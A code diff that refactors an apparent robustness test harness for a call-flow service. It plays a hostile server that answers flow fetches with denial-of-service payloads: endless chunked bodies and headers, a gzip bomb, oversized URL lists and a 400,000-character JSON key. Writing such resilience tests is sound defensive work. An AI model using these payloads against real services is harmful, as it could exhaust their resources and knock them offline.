@@ -79,9 +79,14 @@ def handshake_byte_by_byte(target: Target) -> int:
     return answered
 
 
-def _flow_server(target: Target, action: dict[str, object], answer: Callable[[socket.socket], int]) -> int:
+def flow_server(
+    target: Target, actions: dict[str, object] | list[dict[str, object]], answer: Callable[[socket.socket], int]
+) -> int:
     """Place calls whose flow asks the attacker's server, and answer as the server does."""
-    body = {"destinations": [{"type": "tel", "target": "+600"}], "actions": [action]}
+    body = {
+        "destinations": [{"type": "tel", "target": "+600"}],
+        "actions": actions if isinstance(actions, list) else [actions],
+    }
     answered: list[int] = []
 
     def serve(server: socket.socket) -> None:
@@ -109,11 +114,12 @@ def _flow_server(target: Target, action: dict[str, object], answer: Callable[[so
     return sum(answered)
 
 
-def _fetch(target: Target) -> dict[str, object]:
+def fetch(target: Target) -> dict[str, object]:
+    """Return an action that asks the attacker's server."""
     return {"type": "fetch", "option": {"event_url": f"http://{HOST}:{target.application_port}/flow"}}
 
 
-_OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+OK = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
 
 
 @attack(least=10)
@@ -121,10 +127,10 @@ def flow_server_endless_body(target: Target) -> int:
     """Answer a flow's request with a body that does not end."""
 
     def answer(connection: socket.socket) -> int:
-        connection.sendall(_OK + b"Transfer-Encoding: chunked\r\n\r\n")
+        connection.sendall(OK + b"Transfer-Encoding: chunked\r\n\r\n")
         return target.flood(connection, b"40\r\n" + b" " * 64 + b"\r\n", most=16 << 20)
 
-    return _flow_server(target, _fetch(target), answer)
+    return flow_server(target, fetch(target), answer)
 
 
 @attack(least=10)
@@ -132,23 +138,23 @@ def flow_server_endless_head(target: Target) -> int:
     """Answer a flow's request with header lines that do not end."""
 
     def answer(connection: socket.socket) -> int:
-        connection.sendall(_OK)
+        connection.sendall(OK)
         return target.flood(connection, b"X-Line: 1\r\n", most=16 << 20)
 
-    return _flow_server(target, _fetch(target), answer)
+    return flow_server(target, fetch(target), answer)
 
 
 @attack(least=1)
 def flow_server_compressed(target: Target) -> int:
     """Answer a flow's request with a gzip bomb."""
     body = gzip.compress(bytes(32 << 20), 9)
-    whole = _OK + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+    whole = OK + b"Content-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(body) + body
 
     def answer(connection: socket.socket) -> int:
         connection.sendall(whole)
         return 1
 
-    return _flow_server(target, _fetch(target), answer)
+    return flow_server(target, fetch(target), answer)
 
 
 @attack(least=1)
@@ -157,23 +163,23 @@ def flow_server_quadratic_urls(target: Target) -> int:
     url = "http://" + "a" * 4000 + " "
     actions = [{"type": "fetch", "option": {"event_url": url}} for _ in range(200)]
     body = json.dumps(actions).encode()
-    whole = _OK + b"Content-Length: %d\r\n\r\n" % len(body) + body
+    whole = OK + b"Content-Length: %d\r\n\r\n" % len(body) + body
 
     def answer(connection: socket.socket) -> int:
         connection.sendall(whole)
         return 1
 
-    return _flow_server(target, _fetch(target), answer)
+    return flow_server(target, fetch(target), answer)
 
 
 @attack(least=1, workers=2, seconds=4)
 def overlong_line_between_workers(target: Target) -> int:
     """Answer a flow's request with one action whose unknown option is 400,000 letters with an accent."""
     body = json.dumps([{"type": "talk", "option": {"é" * 400_000: 1}}], ensure_ascii=False).encode()
-    whole = _OK + b"Content-Length: %d\r\n\r\n" % len(body) + body
+    whole = OK + b"Content-Length: %d\r\n\r\n" % len(body) + body
 
     def answer(connection: socket.socket) -> int:
         connection.sendall(whole)
         return 1
 
-    return _flow_server(target, _fetch(target), answer)
+    return flow_server(target, fetch(target), answer)
